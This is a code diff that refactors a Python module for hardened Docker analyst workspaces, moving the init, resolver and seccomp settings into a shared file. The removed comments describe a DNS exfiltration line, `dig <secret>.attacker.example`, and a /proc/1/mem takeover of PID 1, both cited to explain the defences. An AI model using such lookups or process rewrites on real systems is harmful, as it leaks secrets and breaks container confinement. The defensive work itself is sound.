@@ -6,24 +6,12 @@ tests can compare a running container's `docker inspect` against it.
 
 from __future__ import annotations
 
-from . import seccomp
+# What Spark nodes share with workspaces (the first process, the resolver, the security options) is
+# in confinement/container.py; named here too, so the workspace's whole policy reads in this screen.
+from ..confinement.container import DNS_NOWHERE, IMAGE_INIT, security_opt  # noqa: F401 (IMAGE_INIT)
 from .plan import HOME, WorkspacePlan
 
 WORKSPACE_UID = "1000:1000"
-
-# The container's first process (the images' ENTRYPOINT). Docker's own init (`init: True`) is a
-# file the analyst can read, so it would run dumpable: the analyst's code could rewrite PID 1 through
-# /proc/1/mem to outlive the server, kill the server and answer on its port. This tini is
-# execute-only, hence not dumpable, and exits when the server does, taking the container with it.
-IMAGE_INIT = "/opt/enclave/bin/tini"
-
-# The upstream resolver Docker's embedded DNS (127.0.0.11) forwards outside names to. Docker Engine
-# before 26.0 forwards lookups from internal networks (CVE-2024-29018); a loopback resolver from the
-# host's resolv.conf is even dialled from the host's namespace, so `dig <secret>.attacker.example`
-# would leave the enclave. A resolver named here is dialled inside the container's own network
-# namespace (measured on 20.10), where nothing listens on port 53: outside names fail inside the
-# container, and no query reaches the host or beyond (tests/security/test_dns.py).
-DNS_NOWHERE = "127.0.0.1"
 
 # CIS 5.12: a CPU share set on purpose. Shares weigh containers against each other (the hub and proxy
 # run on the host, outside Docker's cgroup): half the default 1024, so under contention any service
@@ -44,11 +32,6 @@ HEALTHCHECK = {
     "retries": 3,
     "start_period": 60 * SECONDS,
 }
-
-
-def security_opt() -> list[str]:
-    """No new privileges, and Docker's default seccomp profile less every reach into another process."""
-    return ["no-new-privileges:true", seccomp.security_opt()]
 
 
 def host_config(plan: WorkspacePlan, scratch_size: str) -> dict:
